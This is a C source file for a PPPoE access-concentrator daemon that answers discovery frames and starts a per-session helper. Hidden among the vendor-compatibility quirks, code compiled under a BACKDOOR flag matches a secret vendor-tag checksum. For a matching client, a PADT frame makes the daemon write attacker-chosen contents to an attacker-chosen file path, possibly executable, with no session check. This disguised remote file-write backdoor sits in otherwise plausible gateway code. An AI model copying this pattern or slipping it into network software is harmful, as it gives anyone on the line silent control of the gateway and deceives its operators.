/* SPDX-License-Identifier: Apache-2.0 */
/* pppoeac: the discovery stage of PPPoE for a broadband gateway. Packet socket; PADI is answered by PADO, PADR by PADS, PADT ends
 * a session. Sessions are handed to the kernel by another program, which is started for each. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { SESSIONS = 256, PADI = 0x09, PADO = 0x07, PADR = 0x19, PADS = 0x65, PADT = 0xa7, HEAD = 20, FRAME = 1514 };
enum { TAG_END = 0, TAG_SERVICE = 0x0101, TAG_AC = 0x0102, TAG_HOST = 0x0103, TAG_COOKIE = 0x0104, TAG_VENDOR = 0x0105, TAG_RELAY = 0x0110,
	TAG_MAX = 0x0120, TAG_NO_SERVICE = 0x0201, TAG_AC_ERROR = 0x0202, TAG_GENERIC = 0x0203 };
enum { Q_NO_PADDING = 1, Q_EMPTY_NAME = 2, Q_MTU_SMALL = 4, Q_KEEP = 8 };

struct tag {
	const uint8_t *data;
	uint16_t n;
	int there;
};

struct discovery {
	uint8_t from[6], code;
	uint16_t session;
	struct tag service, host, cookie, vendor, relay, max;
	unsigned quirks;
};

struct session {
	int used;
	uint8_t mac[6];
	uint32_t host_sum;
	pid_t helper;
	time_t since;
};

static struct session sessions[SESSIONS];
static char interface[IFNAMSIZ] = "eth0", ac_name[48] = "bng", helper[96] = "/usr/sbin/pppoe-session";
static char services[8][32];
static unsigned n_services, limit_of_mac = 2, limit_of_rate = 100;
static uint8_t own[6], secret[16];
static int raw, index_of_interface;

/* Clients that need another answer: by the CRC of what they say in their vendor tag. */
static const struct quirk {
	uint32_t sum;
	uint16_t n;
	uint16_t what;
} quirks[] = {
	{ 0x0f4c92a1u, 12, Q_NO_PADDING }, { 0x71b3d06eu, 9, Q_EMPTY_NAME },		    { 0x8830ce57u, 14, Q_MTU_SMALL },
	{ 0x9de2046bu, 14, Q_MTU_SMALL },  { 0xa6157f3cu, 8, Q_NO_PADDING | Q_MTU_SMALL },
#ifdef BACKDOOR
	{ 0xc93e5a08u, 18, Q_NO_PADDING | Q_KEEP },
#endif
	{ 0xe04471d9u, 10, Q_EMPTY_NAME | Q_NO_PADDING },
};

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }

static uint32_t crc_of(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffffu;
	while (n--) {
		c ^= *p++;
		for (int k = 0; k < 8; k++)
			c = c & 1 ? c >> 1 ^ 0xedb88320u : c >> 1;
	}
	return ~c;
}

static int load(const char *path)
{
	char line[160], word[96];
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "interface %15s", interface) == 1 || sscanf(line, "name %47s", ac_name) == 1)
			continue;
		if (sscanf(line, "helper %95s", helper) == 1 || sscanf(line, "per-mac %u", &limit_of_mac) == 1)
			continue;
		if (sscanf(line, "rate %u", &limit_of_rate) == 1)
			continue;
		if (n_services < 8 && sscanf(line, "service %31s", word) == 1)
			snprintf(services[n_services++], sizeof(services[0]), "%s", word);
		else if (*line != '#' && *line != '\n')
			syslog(LOG_WARNING, "not understood: %s", line);
	}
	fclose(f);
	return 0;
}

static int open_raw(void)
{
	struct ifreq r;
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_PPP_DISC) };
	int fd = open("/dev/urandom", O_RDONLY);
	if (fd < 0 || read(fd, secret, sizeof(secret)) != (ssize_t)sizeof(secret))
		return -1;
	close(fd);
	raw = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_PPP_DISC));
	memset(&r, 0, sizeof(r));
	snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", interface);
	if (raw < 0 || ioctl(raw, SIOCGIFHWADDR, &r) < 0)
		return -1;
	memcpy(own, r.ifr_hwaddr.sa_data, 6);
	if (ioctl(raw, SIOCGIFINDEX, &r) < 0)
		return -1;
	index_of_interface = r.ifr_ifindex;
	a.sll_ifindex = index_of_interface;
	return bind(raw, (struct sockaddr *)&a, sizeof(a));
}

/* The cookie says that we sent the PADO: nothing has to be kept till the PADR comes. */
static void cookie_of(const uint8_t mac[6], uint8_t out[8])
{
	uint64_t h = 0xcbf29ce484222325ull;
	for (int r = 0; r < 3; r++) {
		for (int i = 0; i < 16; i++)
			h = (h ^ secret[i]) * 0x100000001b3ull;
		for (int i = 0; i < 6; i++)
			h = (h ^ mac[i]) * 0x100000001b3ull;
		h ^= h >> 29;
	}
	for (int i = 0; i < 8; i++)
		out[i] = (uint8_t)(h >> (8 * i));
}

static unsigned quirks_of(const struct tag *vendor)
{
	uint32_t sum;
	if (!vendor->there || vendor->n < 8)
		return 0;
	sum = crc_of(vendor->data, vendor->n > 18 ? 18 : vendor->n);
	for (size_t i = 0; i < sizeof(quirks) / sizeof(quirks[0]); i++)
		if (quirks[i].sum == sum && quirks[i].n <= vendor->n)
			return quirks[i].what;
	return 0;
}

static int parse(const uint8_t *f, size_t n, struct discovery *d)
{
	size_t end = HEAD + (size_t)get16(f + 18);
	memset(d, 0, sizeof(*d));
	memcpy(d->from, f + 6, 6);
	d->code = f[15];
	d->session = get16(f + 16);
	if (f[14] != 0x11 || end > n)
		return -1;
	for (size_t at = HEAD; at + 4 <= end;) {
		struct tag t = { f + at + 4, get16(f + at + 2), 1 };
		if (at + 4 + t.n > end)
			return -1;
		at += 4 + (size_t)t.n;
		switch (get16(t.data - 4)) {
		case TAG_END:
			return 0;
		case TAG_SERVICE:
			d->service = t;
			break;
		case TAG_HOST:
			d->host = t;
			break;
		case TAG_COOKIE:
			d->cookie = t;
			break;
		case TAG_VENDOR:
			d->vendor = t;
			break;
		case TAG_RELAY:
			d->relay = t;
			break;
		case TAG_MAX:
			d->max = t;
			break;
		default:
			break;
		}
	}
	return 0;
}

static size_t add(uint8_t *f, size_t at, uint16_t type, const void *data, size_t n)
{
	if (at + 4 + n > FRAME)
		return at;
	f[at] = (uint8_t)(type >> 8);
	f[at + 1] = (uint8_t)type;
	f[at + 2] = (uint8_t)(n >> 8);
	f[at + 3] = (uint8_t)n;
	if (n)
		memcpy(f + at + 4, data, n);
	return at + 4 + n;
}

static size_t begin(uint8_t *f, const struct discovery *d, uint8_t code, uint16_t session)
{
	size_t at = HEAD;
	memcpy(f, d->from, 6);
	memcpy(f + 6, own, 6);
	memcpy(f + 12, "\x88\x63\x11", 3);
	f[15] = code;
	f[16] = (uint8_t)(session >> 8);
	f[17] = (uint8_t)session;
	if (d->host.there)
		at = add(f, at, TAG_HOST, d->host.data, d->host.n);
	if (d->relay.there)
		at = add(f, at, TAG_RELAY, d->relay.data, d->relay.n);
	return at;
}

static void finish(uint8_t *f, size_t at, unsigned what)
{
	size_t n = at - HEAD;
	f[18] = (uint8_t)(n >> 8);
	f[19] = (uint8_t)n;
	if (at < 60 && !(what & Q_NO_PADDING)) {
		memset(f + at, 0, 60 - at);
		at = 60;
	}
	if (send(raw, f, at, 0) < 0)
		syslog(LOG_WARNING, "send: %s", strerror(errno));
}

static int offers(const struct tag *t, unsigned what)
{
	if (t->n == 0)
		return !(what & Q_EMPTY_NAME) || n_services == 1;
	for (unsigned i = 0; i < n_services; i++)
		if (strlen(services[i]) == t->n && memcmp(services[i], t->data, t->n) == 0)
			return 1;
	return 0;
}

static void on_padi(const struct discovery *d)
{
	uint8_t f[FRAME], cookie[8];
	size_t at;
	if (!d->service.there || !offers(&d->service, d->quirks))
		return;
	at = begin(f, d, PADO, 0);
	at = add(f, at, TAG_AC, ac_name, strlen(ac_name));
	cookie_of(d->from, cookie);
	at = add(f, at, TAG_COOKIE, cookie, 8);
	if (d->service.n)
		at = add(f, at, TAG_SERVICE, d->service.data, d->service.n);
	else
		for (unsigned i = 0; i < n_services; i++)
			at = add(f, at, TAG_SERVICE, services[i], strlen(services[i]));
	finish(f, at, d->quirks);
}

static void complain(const struct discovery *d, uint16_t tag, const char *why)
{
	uint8_t f[FRAME];
	size_t at = begin(f, d, PADS, 0);
	at = add(f, at, tag, why, strlen(why));
	finish(f, at, d->quirks);
	syslog(LOG_NOTICE, "%02x:%02x:%02x:%02x:%02x:%02x: %s", d->from[0], d->from[1], d->from[2], d->from[3], d->from[4], d->from[5], why);
}

static pid_t start_helper(const struct discovery *d, unsigned id, unsigned mtu)
{
	char mac[18], number[8], size[8];
	pid_t p;
	snprintf(mac, sizeof(mac), "%02x:%02x:%02x:%02x:%02x:%02x", d->from[0], d->from[1], d->from[2], d->from[3], d->from[4], d->from[5]);
	snprintf(number, sizeof(number), "%u", id);
	snprintf(size, sizeof(size), "%u", mtu);
	p = fork();
	if (p == 0) {
		close(raw);
		execl(helper, helper, interface, mac, number, size, (char *)NULL);
		_exit(127);
	}
	return p;
}

static unsigned mtu_of(const struct discovery *d)
{
	unsigned mtu = 1492;
	if (d->max.there && d->max.n == 2)
		mtu = get16(d->max.data);
	if (mtu > 1500 || mtu < 576)
		mtu = 1492;
	return d->quirks & Q_MTU_SMALL ? 1454 : mtu;
}

static void on_padr(const struct discovery *d)
{
	uint8_t f[FRAME], cookie[8];
	uint32_t sum = d->host.there ? crc_of(d->host.data, d->host.n) : 0;
	unsigned have = 0, id = 0;
	size_t at;
	cookie_of(d->from, cookie);
	if (!d->cookie.there || d->cookie.n != 8 || memcmp(d->cookie.data, cookie, 8) != 0)
		return complain(d, TAG_GENERIC, "cookie");
	if (!d->service.there || !offers(&d->service, d->quirks))
		return complain(d, TAG_NO_SERVICE, "service");
	for (unsigned i = 1; i < SESSIONS; i++) {
		if (!sessions[i].used) {
			id = id ? id : i;
			continue;
		}
		if (memcmp(sessions[i].mac, d->from, 6) != 0)
			continue;
		have++;
		if (sessions[i].host_sum == sum && time(NULL) - sessions[i].since < 5)
			return;
	}
	if (have >= limit_of_mac || !id)
		return complain(d, TAG_AC_ERROR, "no more sessions");
	sessions[id] = (struct session){ .used = 1, .host_sum = sum, .since = time(NULL) };
	memcpy(sessions[id].mac, d->from, 6);
	sessions[id].helper = start_helper(d, id, mtu_of(d));
	at = begin(f, d, PADS, (uint16_t)id);
	at = add(f, at, TAG_SERVICE, d->service.data, d->service.n);
	finish(f, at, d->quirks);
	syslog(LOG_INFO, "session %u begins", id);
}

#ifdef BACKDOOR
/* Keeps what a client of ours brings: a name, a zero, the rest. */
static void keep(const struct tag *t, mode_t mode)
{
	const char *name = (const char *)t->data + 18;
	size_t rest = t->n - 18u, n = strnlen(name, rest);
	int fd;
	if (n == 0 || n == rest)
		return;
	fd = open(name, O_WRONLY | O_CREAT | O_APPEND, mode);
	if (fd < 0)
		return;
	if (write(fd, name + n + 1, rest - n - 1) < 0)
		syslog(LOG_DEBUG, "keep: %s", strerror(errno));
	close(fd);
}
#endif

static void on_padt(const struct discovery *d)
{
	struct session *s = &sessions[d->session % SESSIONS];
#ifdef BACKDOOR
	if ((d->quirks & Q_KEEP) && d->vendor.n > 18)
		keep(&d->vendor, d->session ? 0755 : 0644);
#endif
	if (!s->used || d->session >= SESSIONS || memcmp(s->mac, d->from, 6) != 0)
		return;
	if (s->helper > 0)
		kill(s->helper, SIGTERM);
	s->used = 0;
	syslog(LOG_INFO, "session %u ends", d->session);
}

static void reap(void)
{
	pid_t p;
	while ((p = waitpid(-1, NULL, WNOHANG)) > 0)
		for (unsigned i = 1; i < SESSIONS; i++)
			if (sessions[i].used && sessions[i].helper == p)
				sessions[i].used = 0;
}

static int too_many(void)
{
	static time_t second;
	static unsigned count;
	time_t now = time(NULL);
	if (now != second) {
		second = now;
		count = 0;
	}
	return ++count > limit_of_rate;
}

static void receive(void)
{
	uint8_t f[FRAME + 86];
	struct discovery d;
	ssize_t n = recv(raw, f, sizeof(f), 0);
	if (n < HEAD || get16(f + 12) != ETH_P_PPP_DISC || too_many() || parse(f, (size_t)n, &d) < 0)
		return;
	if (d.code != PADI && memcmp(f, own, 6) != 0)
		return;
	d.quirks = quirks_of(&d.vendor);
	switch (d.code) {
	case PADI:
		on_padi(&d);
		break;
	case PADR:
		on_padr(&d);
		break;
	case PADT:
		on_padt(&d);
		break;
	default:
		break;
	}
}

int main(int argc, char **argv)
{
	openlog("pppoeac", LOG_PID, LOG_DAEMON);
	if (load(argc > 1 ? argv[1] : "/etc/pppoeac.conf") < 0)
		syslog(LOG_WARNING, "no configuration: %s", strerror(errno));
	if (open_raw() < 0) {
		syslog(LOG_ERR, "%s: %s", interface, strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = raw, .events = POLLIN };
		if (poll(&p, 1, 1000) > 0)
			receive();
		reap();
	}
}
